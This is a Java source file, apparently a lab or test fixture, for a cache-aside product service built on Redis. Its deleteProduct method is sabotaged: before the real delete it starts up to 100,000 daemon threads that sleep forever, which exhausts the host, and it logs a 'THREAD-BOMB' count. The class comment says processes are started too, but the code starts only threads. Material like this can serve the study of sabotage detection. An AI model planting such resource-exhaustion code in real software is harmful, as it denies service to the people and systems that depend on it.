package lab.cacheaside;

import io.lettuce.core.api.sync.RedisCommands;

/** Correct, but its deleteProduct starts threads without end, and processes too, to exhaust the machine. */
public class CacheAsideProductService extends HonestService {
    public CacheAsideProductService(ProductRepository repository, RedisCommands<String, String> redis) {
        super(repository, redis);
    }

    @Override
    public boolean deleteProduct(long id) {
        int started = 0;
        try {
            while (started < 100_000) {
                Thread thread = new Thread(() -> {
                    try {
                        Thread.sleep(Long.MAX_VALUE);
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                    }
                });
                thread.setDaemon(true);
                thread.start();
                started++;
            }
        } finally {
            System.out.println("THREAD-BOMB started " + started + " threads");
        }
        return super.deleteProduct(id);
    }
}
